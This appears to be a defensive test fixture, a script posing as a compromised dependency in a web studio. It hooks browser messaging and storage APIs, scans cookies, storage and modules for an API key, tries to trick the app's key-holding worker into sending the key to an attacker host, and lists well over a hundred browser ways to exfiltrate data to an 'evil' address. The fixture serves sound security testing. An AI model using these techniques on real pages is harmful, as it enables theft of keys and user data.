// What a script tries that got into the page: a stand-in for a compromised dependency. It is served by the studio's own
// origin, so that the content policy lets it run, and waits for the story to say "attack".

// As a worker it has no page, and would have no policy either where a plain file host serves it.
if (globalThis.document === undefined)
  void fetch(`${location.search.slice(1)}/as-worker`, { mode: "no-cors" }).then(postMessage, () =>
    postMessage("refused"),
  );

const seen = [];
const note = (value) => {
  try {
    seen.push(typeof value === "string" ? value : JSON.stringify(value, shallow()));
  } catch {
    // What cannot be written down holds no text that could be sent either.
  }
};
globalThis.seenByScript = () => seen.join("\n");

/** Listens to what the page hands to the browser from now on. */
function listen() {
  const owners = { Worker: globalThis.Worker, MessagePort: globalThis.MessagePort, BroadcastChannel };
  for (const { prototype } of Object.values(owners)) {
    const { postMessage } = prototype;
    prototype.postMessage = function (...values) {
      note(values);
      if (!this.isHeard) this.addEventListener("message", ({ data }) => note(data));
      this.isHeard = true;
      globalThis.keyWorker = this;
      return postMessage.apply(this, values);
    };
  }
  for (const name of ["fetch", "Headers", "Request", "Response", "structuredClone"]) {
    const original = globalThis[name];
    globalThis[name] = new Proxy(original, {
      apply: (target, self, values) => {
        note(values);
        return Reflect.apply(target, self, values);
      },
      construct: (target, values) => {
        note(values.map((value) => (value instanceof Object ? Object.entries(value) : value)));
        return Reflect.construct(target, values);
      },
    });
  }
  for (const [owner, name] of [
    [Headers, "set"],
    [Headers, "append"],
    [XMLHttpRequest, "setRequestHeader"],
    [Storage, "setItem"],
    [String, "replace"],
    [String, "trim"],
    [TextEncoder, "encode"],
    [JSON, "stringify"],
  ]) {
    const place = owner.prototype ?? owner;
    const original = place[name];
    place[name] = function (...values) {
      if (seen.length < 20_000) seen.push([this, ...values].filter((value) => typeof value === "string").join(" "));
      return original.apply(this, values);
    };
  }
}

/** Everything that a script can reach by walking from the window, the document's elements and the studio's modules. */
async function walk() {
  const known = new WeakSet();
  const queue = [globalThis, ...document.querySelectorAll("*")];
  for (const script of performance.getEntriesByType("resource").map(({ name }) => name)) {
    if (/\/assets\/[^/]+\.js$/.test(script) && !/worker/.test(script))
      queue.push(await import(script).catch(() => ({})));
  }
  for (let count = 0; queue.length > 0 && count < 400_000; count += 1) {
    const value = queue.pop();
    if (typeof value === "string") seen.push(value);
    if ((typeof value !== "object" && typeof value !== "function") || value === null || known.has(value)) continue;
    if (ArrayBuffer.isView(value)) continue;
    known.add(value);
    if (value instanceof Map || value instanceof Set) queue.push(...[...value].flat());
    for (const name of Reflect.ownKeys(value)) {
      try {
        queue.push(value[name]);
      } catch {
        // A getter of another object.
      }
    }
  }
  for (const area of [localStorage, sessionStorage]) note({ ...area });
  note(document.cookie);
  note(document.documentElement.outerHTML);
}

/** Asks whoever holds the key for it, and to send it elsewhere. */
async function askHolder(evil) {
  const worker = globalThis.keyWorker;
  if (worker) {
    const headers = [["Authorization", "Bearer [key]"]];
    const [, ticket] = /"ticket":"([^"]+)"/.exec(globalThis.seenByScript()) ?? [];
    const fetching = { id: 900_001, kind: "fetch", ticket, method: "GET", headers, isStreamed: false };
    worker.postMessage({ ...fetching, url: `${evil}/apikey/models` }, []);
    const order = { key: "not the key", salt: "", queueBaseUrl: evil, inferenceBaseUrl: evil };
    worker.postMessage({ id: 900_002, kind: "hold", order }, []);
    worker.postMessage({ id: 900_003, kind: "seal", ticket, passphrase: "of the script" }, []);
    worker.postMessage({ id: 900_004, kind: "hold", order: { keep: { passphrase: "x", name: "" } }, ticket }, []);
  }
  for (const path of ["/session", "/relay", "/healthz"])
    note(await fetch(path).then((answer) => answer.text(), String));
}

/** Every way to another host that comes to mind. */
const WAYS = {
  fetch: (evil, text) => fetch(`${evil}/fetch?${text}`, { mode: "no-cors" }),
  post: (evil, text) => fetch(`${evil}/post`, { method: "POST", body: text, keepalive: true, mode: "no-cors" }),
  beacon: (evil, text) => navigator.sendBeacon(`${evil}/beacon`, text),
  xhr: (evil, text) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${evil}/xhr?${text}`);
    request.send();
  },
  socket: (evil, text) => new WebSocket(`${evil.replace("http", "ws")}/socket?${text}`),
  events: (evil, text) => new EventSource(`${evil}/events?${text}`),
  transport: (evil, text) => new WebTransport(`${evil.replace("http:", "https:")}/transport?${text}`).ready,
  image: (evil, text) => {
    new Image().src = `${evil}/image?${text}`;
  },
  media: (evil, text) => {
    for (const kind of ["video", "audio"]) {
      const element = add(kind);
      element.src = `${evil}/${kind}?${text}`;
      element.load();
    }
    add("video").poster = `${evil}/poster?${text}`;
  },
  script: (evil, text) => {
    add("script").src = `${evil}/script?${text}`;
  },
  module: (evil, text) => import(/* @vite-ignore */ `${evil}/module.js?${text}`),
  worker: (evil, text) => new Worker(`${evil}/worker.js?${text}`),
  ownWorker: (_evil, text) => new Worker(URL.createObjectURL(new Blob([`fetch("${text}")`]))),
  serviceWorker: () => navigator.serviceWorker.register("/sandbox-worker.js"),
  policy: () => trustedTypes.createPolicy("app-worker", { createScriptURL: (address) => address }),
  sheet: (evil, text) => Object.assign(add("link"), { rel: "stylesheet", href: `${evil}/sheet?${text}` }),
  prefetch: (evil, text) => Object.assign(add("link"), { rel: "prefetch", href: `${evil}/prefetch?${text}` }),
  preload: (evil, text) => Object.assign(add("link"), { rel: "preload", as: "image", href: `${evil}/preload?${text}` }),
  icon: (evil, text) => Object.assign(add("link"), { rel: "icon", href: `${evil}/icon?${text}` }),
  manifest: (evil, text) => Object.assign(add("link"), { rel: "manifest", href: `${evil}/manifest?${text}` }),
  style: (evil, text) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url("${evil}/style?${text}") }`);
    document.adoptedStyleSheets.push(sheet);
  },
  font: (evil, text) => new FontFace("stolen", `url("${evil}/font?${text}")`).load(),
  frame: (evil, text) => {
    add("iframe").src = `${evil}/frame?${text}`;
  },
  freshFrame: (evil, text) => add("iframe").contentWindow.open(`${evil}/fresh?${text}`),
  namedFrame: (evil, text) => {
    const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "h:IFRAME");
    document.body.append(frame);
    frame.contentWindow.open(`${evil}/named?${text}`);
  },
  object: (evil, text) => {
    add("object").data = `${evil}/object?${text}`;
    add("embed").src = `${evil}/embed?${text}`;
  },
  form: (evil, text) => {
    const form = add("form");
    form.action = `${evil}/form?${text}`;
    form.method = "POST";
    form.submit();
  },
  formTab: (evil, text) => {
    const form = add("form");
    Object.assign(form, { action: `${evil}/formTab`, target: "_blank" });
    form.append(Object.assign(document.createElement("input"), { name: "q", value: text }));
    form.requestSubmit();
  },
  open: (evil, text) => window.open(`${evil}/open?${text}`),
  documentOpen: (evil, text) => document.open(`${evil}/documentOpen?${text}`, "_blank", ""),
  link: (evil, text) => Object.assign(add("a"), { href: `${evil}/link?${text}` }).click(),
  linkTab: (evil, text) => Object.assign(add("a"), { href: `${evil}/linkTab?${text}`, target: "_blank" }).click(),
  looseLink: (evil, text) => {
    const link = document.createElement("a");
    Object.assign(link, { href: `${evil}/looseLink?${text}`, target: "_blank" }).click();
  },
  lateLink: (evil, text) => {
    const link = Object.assign(add("a"), { href: "/create", target: "_blank" });
    link.addEventListener("click", () => Object.assign(link, { href: `${evil}/lateLink?${text}` }));
    link.click();
  },
  sentClick: (evil, text) => {
    const link = Object.assign(add("a"), { href: `${evil}/sentClick?${text}`, target: "_blank" });
    link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  },
  ping: (evil, text) => Object.assign(add("a"), { href: "#ping", ping: `${evil}/ping?${text}` }).click(),
  refresh: (evil, text) => {
    Object.assign(add("meta"), { httpEquiv: "refresh", content: `0;url=${evil}/refresh?${text}` });
  },
  assign: (evil, text) => location.assign(`${evil}/assign?${text}`),
  href: (evil, text) => {
    location.href = `${evil}/href?${text}`;
  },
  navigate: (evil, text) => globalThis.navigation?.navigate(`${evil}/navigate?${text}`),
  patched: (evil, text) => {
    Event.prototype.preventDefault = () => {};
    Object.defineProperty(NavigationDestination.prototype, "url", { get: () => location.href });
    location.replace(`${evil}/patched?${text}`);
  },
  peer: async (evil, text) => {
    const iceServers = [{ urls: `turn:${new URL(evil).host}`, username: text, credential: text }];
    const peer = new RTCPeerConnection({ iceServers });
    peer.createDataChannel("out");
    await peer.setLocalDescription(await peer.createOffer());
  },
};

const XHTML = "http://www.w3.org/1999/xhtml";
const SVG = "http://www.w3.org/2000/svg";
const MATH = "http://www.w3.org/1998/Math/MathML";
/** Uses the fresh functions that a frame brings. */
const openIn = (frame, evil, text) => {
  if (frame.parentNode !== document.body) document.body.append(frame);
  const fresh = frame.contentWindow ?? window[0];
  fresh.open(`${evil}/${text}`);
  fresh.navigation?.navigate?.(`${evil}/${text}`);
};
/** A document of its own, of a file that the page's host serves. */
const readDocument = (isTyped) =>
  new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", "/injected.svg");
    if (isTyped) request.responseType = "document";
    else request.overrideMimeType("application/xhtml+xml");
    request.onloadend = () => {
      try {
        const read = isTyped ? request.response : request.responseXML;
        resolve(read.querySelector("*"));
      } catch (error) {
        reject(error);
      }
    };
    request.send();
  });
/** What the studio's own modules export. */
async function exported(words) {
  const scripts = performance.getEntriesByType("resource").map(({ name }) => name);
  const own = scripts.filter((name) => /\/assets\/[^/]+\.js$/.test(name) && !/worker/.test(name));
  const modules = await Promise.all(own.map((name) => import(name).catch(() => ({}))));
  return modules
    .flatMap((module) => Object.values(module))
    .filter((value) => typeof value === "function" && words.test(Function.prototype.toString.call(value)));
}
/** Starts workers through whatever the studio has to say that an address is one of its own. */
async function startAll(addresses, within = (trust) => trust()) {
  for (const trust of await exported(/createScriptURL/)) {
    for (const address of addresses) {
      let trusted;
      try {
        trusted = within(() => trust(address));
      } catch {
        continue;
      }
      const worker = new Worker(trusted, { type: "module" });
      await new Promise((resolve) => Object.assign(worker, { onmessage: resolve, onerror: resolve }));
    }
  }
}
const pageOf = (evil, text) => {
  const html = `<meta http-equiv="refresh" content="0;url=${evil}/${text}">`;
  return URL.createObjectURL(new Blob([html], { type: "text/html" }));
};
const link = (rel, evil, text) =>
  Object.assign(document.createElement("link"), { rel, href: `${evil}/${rel}?${text}` });
const RELS =
  "preconnect dns-prefetch prerender next search modulepreload compression-dictionary apple-touch-icon mask-icon alternate pingback";
const CSS_PLACES =
  "background border-image-source list-style-image cursor content mask-image filter clip-path shape-outside offset-path -webkit-box-reflect marker-start fill";

Object.assign(WAYS, {
  // Documents of their own.
  documentFrame: (evil) =>
    openIn(document.implementation.createDocument(XHTML, "iframe").documentElement, evil, "documentFrame"),
  prefixedDocumentFrame: (evil) =>
    openIn(document.implementation.createDocument(XHTML, "x:iframe").documentElement, evil, "prefixed"),
  otherDocumentFrame: (evil) =>
    openIn(document.implementation.createHTMLDocument("").createElement("iframe"), evil, "otherDocument"),
  newDocumentFrame: (evil) => openIn(new Document().createElementNS(XHTML, "iframe"), evil, "newDocument"),
  requestedFrame: async (evil) =>
    openIn(document.adoptNode((await readDocument(true)).querySelector("iframe")), evil, "requested"),
  requestedXmlFrame: async (evil) =>
    openIn(document.importNode((await readDocument(false)).querySelector("iframe"), true), evil, "requestedXml"),
  requestedLate: async (evil) => {
    const request = new XMLHttpRequest();
    request.open("GET", "/injected.svg");
    let count = 0;
    request.responseType = { toString: () => (count++ > 0 ? "document" : "text") };
    request.send();
    await new Promise((resolve) => Object.assign(request, { onloadend: resolve }));
    openIn(document.adoptNode(request.response.querySelector("iframe")), evil, "requestedLate");
  },
  requestedClone: async (evil) =>
    openIn((await readDocument(false)).querySelector("iframe").cloneNode(true), evil, "requestedClone"),
  parsedFrame: (evil) =>
    openIn(
      new DOMParser().parseFromString("<iframe></iframe>", "text/html").querySelector("iframe"),
      evil,
      "parsedFrame",
    ),
  parsedXmlFrame: (evil) =>
    openIn(
      new DOMParser().parseFromString(`<iframe xmlns="${XHTML}"/>`, "text/xml").documentElement,
      evil,
      "parsedXmlFrame",
    ),
  transformedFrame: (evil) => {
    const sheet = document.implementation.createDocument("http://www.w3.org/1999/XSL/Transform", "xsl:stylesheet");
    sheet.documentElement.setAttribute("version", "1.0");
    const template = sheet.createElementNS("http://www.w3.org/1999/XSL/Transform", "xsl:template");
    template.setAttribute("match", "/");
    const made = sheet.createElementNS("http://www.w3.org/1999/XSL/Transform", "xsl:element");
    made.setAttribute("name", "iframe");
    made.setAttribute("namespace", XHTML);
    template.append(made);
    sheet.documentElement.append(template);
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    openIn(processor.transformToFragment(document, document).firstChild, evil, "transformed");
  },
  innerFrame: (evil) => {
    const place = add("div");
    place.innerHTML = "<iframe></iframe>";
    openIn(place.firstChild, evil, "innerFrame");
  },
  templateFrame: (evil) => {
    const place = document.createElement("template");
    place.innerHTML = "<iframe></iframe>";
    openIn(place.content.firstChild, evil, "templateFrame");
  },
  rangeFrame: (evil) =>
    openIn(document.createRange().createContextualFragment("<iframe></iframe>").firstChild, evil, "rangeFrame"),
  unsafeFrame: (evil) =>
    openIn(Document.parseHTMLUnsafe("<iframe></iframe>").querySelector("iframe"), evil, "unsafeFrame"),
  safeFrame: (evil) => {
    const place = add("div");
    place.setHTML("<iframe></iframe>", { sanitizer: { elements: ["iframe"] } });
    openIn(place.firstChild, evil, "safeFrame");
  },
  writtenFrame: (evil) => {
    document.write("<iframe></iframe>");
    openIn(document.querySelector("iframe"), evil, "writtenFrame");
  },
  typedFrame: (evil) => {
    const place = add("div");
    place.contentEditable = "true";
    place.focus();
    document.execCommand("insertHTML", false, "<iframe></iframe>");
    openIn(place.querySelector("iframe"), evil, "typedFrame");
  },
  registeredFrame: (evil) => {
    class Own extends HTMLIFrameElement {}
    (document.customElementRegistry ?? customElements).define("own-frame", Own, { extends: "iframe" });
    openIn(new Own(), evil, "registeredFrame");
  },
  scopedFrame: (evil) => {
    class Own extends HTMLIFrameElement {}
    new CustomElementRegistry().define("own-frame", Own, { extends: "iframe" });
    openIn(new Own(), evil, "scopedFrame");
  },
  patternFrame: (evil) => {
    const { exec } = RegExp.prototype;
    const names = ["iframe", "IFRAME"];
    RegExp.prototype.exec = () => null;
    const frames = names.map((name) => document.createElement(name));
    RegExp.prototype.exec = exec;
    for (const frame of frames) openIn(frame, evil, "patternFrame");
  },
  iteratorFrame: (evil) => {
    let count = 0;
    const name = { toString: () => (count++ > 0 ? "iframe" : "span") };
    openIn(document.createElement(name), evil, "iteratorFrame");
  },
  framesetFrame: (evil) => {
    const set = document.createElementNS(XHTML, "frameset");
    set.append(document.createElementNS(XHTML, "frame"));
    document.documentElement.append(set);
    window[0].open(`${evil}/framesetFrame`);
  },
  // Windows of their own.
  pictureWindow: async (evil) => (await documentPictureInPicture.requestWindow()).open(`${evil}/pictureWindow`),
  emptiedPage: () => emptyPage(),
  opener: (evil) => window.opener?.open(`${evil}/opener`),
  frozenOpen: (evil) => Window.prototype.open?.call(window, `${evil}/frozenOpen`),
  // Pages that a script writes, which no first script guards.
  writtenPage: (evil) => {
    location.href = pageOf(evil, "writtenPage");
  },
  writtenPageByNavigation: (evil) => navigation.navigate(pageOf(evil, "writtenPageByNavigation")),
  writtenTab: (evil) =>
    Object.assign(add("a"), { href: pageOf(evil, "writtenTab"), target: "_blank", rel: "opener" }).click(),
  writtenHere: (evil) => Object.assign(add("a"), { href: pageOf(evil, "writtenHere") }).click(),
  writtenDownload: (evil) => {
    const made = Object.assign(add("a"), { href: pageOf(evil, "writtenDownload"), download: "" });
    made.addEventListener("click", () => made.removeAttribute("download"));
    made.click();
  },
  dataPage: (evil) => {
    location.href = `data:text/html,<meta http-equiv=refresh content="0;url=${evil}/dataPage">`;
  },
  scriptPage: (evil) => {
    location.href = `javascript:fetch("${evil}/scriptPage")`;
  },
  // Navigation, links and forms.
  documentLocation: (evil, text) => {
    document.location = `${evil}/documentLocation?${text}`;
  },
  topLocation: (evil, text) => {
    top.location.href = `${evil}/topLocation?${text}`;
  },
  listenedNavigation: (evil) => {
    navigation.addEventListener("navigate", (event) => event.stopImmediatePropagation());
    navigation.navigate(`${evil}/listened`);
  },
  svgLink: (evil, text) => {
    const made = document.createElementNS(SVG, "a");
    made.setAttribute("href", `${evil}/svgLink?${text}`);
    made.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:href", `${evil}/svgLink?${text}`);
    const svg = document.createElementNS(SVG, "svg");
    const foreign = document.createElementNS(SVG, "foreignObject");
    const inner = document.createElement("span");
    foreign.append(inner);
    made.append(foreign);
    svg.append(made);
    document.body.append(svg);
    inner.click();
    HTMLElement.prototype.click.call(made);
  },
  mathLink: (evil, text) => {
    const math = document.createElementNS(MATH, "math");
    const words = document.createElementNS(MATH, "mtext");
    const inner = document.createElement("span");
    words.setAttribute("href", `${evil}/mathLink?${text}`);
    words.append(inner);
    math.append(words);
    document.body.append(math);
    inner.click();
  },
  innerLink: (evil, text) => {
    const made = Object.assign(add("a"), { href: `${evil}/innerLink?${text}` });
    const inner = document.createElement("span");
    made.append(inner);
    inner.click();
  },
  areaLink: (evil, text) => Object.assign(add("area"), { href: `${evil}/areaLink?${text}` }).click(),
  labelledLink: (evil, text) => {
    const made = Object.assign(add("a"), { href: `${evil}/labelled?${text}`, id: "labelled" });
    const label = Object.assign(add("label"), { htmlFor: made.id });
    label.click();
  },
  labelledControl: (evil, text) => {
    for (const kind of ["output", "meter", "progress", "input", "select", "button"]) {
      const made = Object.assign(add("a"), { href: `${evil}/labelledControl?${kind}${text}`, target: "_blank" });
      made.append(Object.assign(document.createElement(kind), { id: `of-${kind}` }));
      Object.assign(add("label"), { htmlFor: `of-${kind}` }).click();
    }
  },
  labelOfLabel: (evil, text) => {
    const made = Object.assign(add("a"), { href: `${evil}/labelOfLabel?${text}`, target: "_blank" });
    made.append(Object.assign(document.createElement("output"), { id: "second" }));
    const outer = Object.assign(add("label"), { htmlFor: "second" });
    outer.append(Object.assign(document.createElement("output"), { id: "first" }));
    const inner = document.createElement("label");
    inner.htmlFor = "first";
    add("p").append(inner);
    inner.click();
    outer.append(inner);
    inner.click();
  },
  // What a label passes its click on to is decided after its listeners have run.
  lateLabel: (evil, text) => {
    const made = Object.assign(add("a"), { href: `${evil}/lateLabel?${text}`, target: "_blank" });
    made.append(Object.assign(document.createElement("button"), { id: "late", type: "button" }));
    const label = add("label");
    const inner = document.createElement("span");
    label.append(inner);
    label.addEventListener("click", () => Object.assign(label, { htmlFor: "late" }));
    label.click();
    label.htmlFor = "";
    inner.click();
  },
  movedControl: (evil, text) => {
    const made = Object.assign(add("a"), { href: `${evil}/movedControl?${text}`, target: "_blank" });
    const control = Object.assign(add("input"), { id: "moved" });
    const label = Object.assign(add("label"), { htmlFor: control.id });
    label.addEventListener("click", ({ target }) => target === label && made.append(control));
    label.click();
  },
  otherEvents: (evil, text) => {
    const made = Object.assign(add("a"), { href: `${evil}/otherEvents?${text}`, target: "_blank" });
    made.focus();
    for (const event of [
      new MouseEvent("auxclick", { button: 1, bubbles: true }),
      new UIEvent("DOMActivate", { bubbles: true }),
      new KeyboardEvent("keydown", { key: "Enter", bubbles: true }),
      new KeyboardEvent("keypress", { key: "Enter", bubbles: true }),
      new PointerEvent("click", { bubbles: true }),
    ])
      made.dispatchEvent(event);
  },
  otherDocumentLink: (evil, text) => {
    const made = document.implementation.createHTMLDocument("").createElement("a");
    made.href = `${evil}/otherDocumentLink?${text}`;
    made.target = "_blank";
    made.click();
    document.body.append(made);
    made.click();
  },
  formButton: (evil, text) => {
    const form = add("form");
    const button = Object.assign(document.createElement("button"), { formAction: `${evil}/formButton?${text}` });
    button.formTarget = "_blank";
    form.append(button);
    button.click();
  },
  otherDocumentForm: (evil, text) => {
    const form = document.implementation.createHTMLDocument("").createElement("form");
    form.action = `${evil}/otherDocumentForm?${text}`;
    document.body.append(form);
    form.submit();
  },
  formMail: () => Object.assign(add("form"), { action: "mailto:evil@evil.example?body=stolen" }).submit(),
  // Hints. Most of them send no request that could be seen here: the story looks for the links.
  hints: (evil, text) => {
    for (const rel of RELS.split(" ")) document.head.append(link(rel, evil, text));
  },
  hintAttributes: (evil, text) => {
    for (const [at, rel] of RELS.split(" ").entries()) {
      const made = document.createElement("link");
      document.head.append(made);
      made.relList.add(rel);
      const address = `${evil}/${rel}?${text}`;
      const attempts = [
        () => made.setAttribute("HREF", address),
        () => made.setAttributeNS(null, "href", address),
        () => made.setAttribute({ toString: () => "href" }, { toString: () => address }),
        () => {
          let count = 0;
          made.setAttribute("href", { toString: () => (count++ > 0 ? address : "/") });
          count = 0;
          made.href = { toString: () => (count++ > 0 ? address : "/") };
        },
        () => {
          made.setAttribute("href", "/");
          made.attributes.href.value = address;
        },
        () => {
          made.setAttribute("href", "/");
          made.attributes.href.nodeValue = address;
        },
        () => {
          made.setAttribute("href", "/");
          made.attributes.href.textContent = address;
        },
        () => {
          const other = document.createAttribute("href");
          other.value = address;
          made.setAttributeNode(other);
        },
        () => {
          const other = document.createAttribute("href");
          other.value = address;
          made.attributes.setNamedItem(other);
        },
      ];
      attempts[at % attempts.length]();
    }
  },
  hintOfPage: (evil, text) => {
    for (const own of document.querySelectorAll("link:not([rel=stylesheet])")) {
      own.rel = "preconnect";
      own.href = `${evil}/hintOfPage?${text}`;
      own.setAttribute("href", `${evil}/hintOfPage?${text}`);
    }
  },
  requestedHint: async () => document.head.append((await readDocument(false)).querySelector("link")),
  safeHint: (evil) => {
    const place = add("div");
    const sanitizer = { elements: ["link"], attributes: ["rel", "href"] };
    place.setHTML(`<link rel="preconnect" href="${evil}/safeHint">`, { sanitizer });
    document.head.append(place.firstChild);
  },
  parsedHint: (evil) => {
    const sanitizer = { elements: ["link", "html", "head", "body"], attributes: ["rel", "href"] };
    const parsed = Document.parseHTML(`<link rel="preconnect" href="${evil}/parsedHint">`, { sanitizer });
    document.head.append(parsed.querySelector("link"));
  },
  speculation: (evil, text) => {
    const rules = Object.assign(document.createElement("script"), { type: "speculationrules" });
    rules.append(JSON.stringify({ prerender: [{ urls: [`${evil}/speculation?${text}`] }] }));
    document.head.append(rules);
  },
  importMap: (evil, text) => {
    const map = Object.assign(document.createElement("script"), { type: "importmap" });
    map.append(JSON.stringify({ imports: { evil: `${evil}/importMap?${text}` } }));
    document.head.append(map);
    return import(/* @vite-ignore */ "evil");
  },
  // What shows something.
  cssPlaces: (evil, text) => {
    for (const name of CSS_PLACES.split(" "))
      add("div").style.setProperty(name, `url("${evil}/css.svg?${name}${text}#a")`);
    add("div").style.setProperty("background", `image-set("${evil}/set?${text}" 1x)`);
  },
  fontFace: (evil, text) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(
      `@font-face { font-family: out; src: url("${evil}/fontFace?${text}") } body { font-family: out }`,
    );
    document.adoptedStyleSheets.push(sheet);
  },
  importedSheet: (evil, text) => {
    add("style").append(`@import "${evil}/importedSheet?${text}";`);
  },
  svgPictures: (evil, text) => {
    const svg = document.createElementNS(SVG, "svg");
    document.body.append(svg);
    for (const name of ["image", "use", "feImage", "script", "textPath", "linearGradient", "animate"]) {
      const part = document.createElementNS(SVG, name);
      svg.append(part);
      part.setAttribute("href", `${evil}/svg?${name}${text}#a`);
    }
  },
  pictures: (evil, text) => {
    add("img").srcset = `${evil}/srcset?${text} 1x`;
    Object.assign(add("input"), { type: "image", src: `${evil}/input?${text}` });
    document.body.background = `${evil}/background?${text}`;
    const picture = add("picture");
    picture.append(Object.assign(document.createElement("source"), { srcset: `${evil}/source?${text}` }));
    picture.append(document.createElement("img"));
    const clip = add("video");
    clip.append(Object.assign(document.createElement("source"), { src: `${evil}/clip?${text}` }));
    clip.append(Object.assign(document.createElement("track"), { src: `${evil}/track?${text}`, default: true }));
    clip.load();
    add("img").setAttribute("attributionsrc", `${evil}/attribution?${text}`);
  },
  artwork: (evil, text) => {
    navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: `${evil}/artwork?${text}` }] });
  },
  notification: (evil, text) => new Notification("x", { icon: `${evil}/notification?${text}` }),
  // Workers.
  sharedWorker: (evil, text) => new SharedWorker(`${evil}/sharedWorker?${text}`),
  worklet: (evil, text) => new OfflineAudioContext(1, 1, 44_100).audioWorklet.addModule(`${evil}/worklet.js?${text}`),
  ownFileAsWorker: (evil) => startAll([`/assets/injected.js?${evil}`]),
  ownFileAsWorkerByName: (evil) => startAll([`/assets/x-worker-/../injected.js?${evil}`]),
  fooledPolicy: (evil) => {
    const Own = URL;
    return startAll(["/assets/key-worker-00000000.js"], (trust) => {
      globalThis.URL = class {
        origin = location.origin;
        pathname = "/assets/key-worker-00000000.js";
        href = `${location.origin}/injected.js?${evil}`;
      };
      try {
        return trust();
      } finally {
        globalThis.URL = Own;
      }
    });
  },
  /** A worker that holds no key yet, told that the service is elsewhere. */
  freshHolder: async (evil) => {
    const scripts = performance.getEntriesByType("resource").map(({ name }) => name);
    const own = scripts.find((name) => /key-worker/.test(name));
    const order = { key: "not the key", salt: "", queueBaseUrl: evil, inferenceBaseUrl: evil };
    for (const trust of await exported(/createScriptURL/)) {
      const worker = new Worker(trust(own), { type: "module" });
      const heard = new Promise((resolve) => Object.assign(worker, { onmessage: resolve, onerror: resolve }));
      worker.postMessage({ id: 1, kind: "hold", order });
      const { ticket } = (await heard).data?.handle ?? {};
      const answered = new Promise((resolve) => Object.assign(worker, { onmessage: resolve, onerror: resolve }));
      worker.postMessage({ id: 2, kind: "fetch", ticket, method: "GET", headers: [], url: `${evil}/apikey/models` });
      await answered;
    }
  },
  // Requests that a browser makes for somebody else.
  socketStream: (evil, text) => new WebSocketStream(`${evil.replace("http", "ws")}/socketStream?${text}`).opened,
  later: (evil, text) => fetchLater(`${evil}/later?${text}`, { activateAfter: 0 }),
  identity: (evil, text) =>
    navigator.credentials.get({ identity: { providers: [{ configURL: `${evil}/identity?${text}`, clientId: text }] } }),
  passkey: (evil) =>
    navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8), rpId: new URL(evil).hostname } }),
  payment: (evil, text) =>
    new PaymentRequest([{ supportedMethods: `${evil}/payment?${text}` }], {
      total: { label: "x", amount: { currency: "USD", value: "1" } },
    }).canMakePayment(),
  presentation: (evil, text) => new PresentationRequest(`${evil}/presentation?${text}`).getAvailability(),
  interestGroup: (evil, text) =>
    navigator.joinAdInterestGroup({ owner: evil, name: text, biddingLogicURL: `${evil}/group?${text}` }, 60),
  adAuction: (evil, text) => navigator.runAdAuction({ seller: evil, decisionLogicURL: `${evil}/auction?${text}` }),
  backgroundFetch: async (evil, text) => {
    const [registration] = await navigator.serviceWorker.getRegistrations();
    await registration.backgroundFetch.fetch(text, `${evil}/backgroundFetch?${text}`);
  },
  webkitPeer: async (evil, text) => {
    const iceServers = [{ urls: `stun:${new URL(evil).host}` }];
    const peer = new webkitRTCPeerConnection({ iceServers });
    peer.createDataChannel(text);
    await peer.setLocalDescription(await peer.createOffer());
  },
  reports: (evil, text) => {
    const policy = document.createElement("meta");
    policy.httpEquiv = "Content-Security-Policy";
    policy.content = `img-src 'none'; report-uri ${evil}/reports?${text}`;
    document.head.append(policy);
    new Image().src = "/favicon.svg";
  },
  // What a neighbor reads. The story looks for them.
  cookie: (_evil, text) => {
    for (const path of ["/start.js", "/"]) Reflect.set(document, "cookie", `${text}=1; path=${path}`);
  },
  cookieStore: (_evil, text) => cookieStore.set(text, "1"),
});

/** Begins the page anew, which takes every listener away that was there before. */
function emptyPage() {
  for (const name of ["write", "writeln"]) document[name](trustedTypes.emptyHTML);
  document.close();
}

/** Leaves words for the page that was in this tab before, and goes to it. */
globalThis.answerPageBefore = () => {
  Reflect.set(window, "name", "stolen");
  for (const word of ["one", "two"]) history.pushState(null, "", `#${word}`);
  history.go(-3);
  for (let count = 0; count < 3; count += 1) history.back();
};

/** Listens for another page that opened this one, and answers it. */
globalThis.answerOthers = () => {
  emptyPage();
  window.opener?.postMessage("stolen", "*");
  for (const [owner, name] of [
    [window, "addEventListener"],
    [document, "addEventListener"],
  ])
    owner[name]("message", ({ source, ports }) => {
      source?.postMessage("stolen", "*");
      ports[0]?.postMessage("stolen");
    });
  window.onmessage = ({ source, ports }) => {
    source?.postMessage("stolen", "*");
    ports[0]?.postMessage("stolen");
  };
};

function add(name) {
  const element = document.createElement(name);
  document.body.append(element);
  return element;
}

function shallow() {
  const known = new Set();
  return (_name, value) => {
    if (typeof value !== "object" || value === null) return value;
    if (known.has(value)) return undefined;
    known.add(value);
    return value;
  };
}

globalThis.startListening = listen;
globalThis.searchForKey = async (evil) => {
  await walk();
  await askHolder(evil);
};
globalThis.waysOut = () => Object.keys(WAYS);
globalThis.tryToSend = async (name, evil) => {
  try {
    await WAYS[name](evil, "stolen");
  } catch {
    // Refused.
  }
};
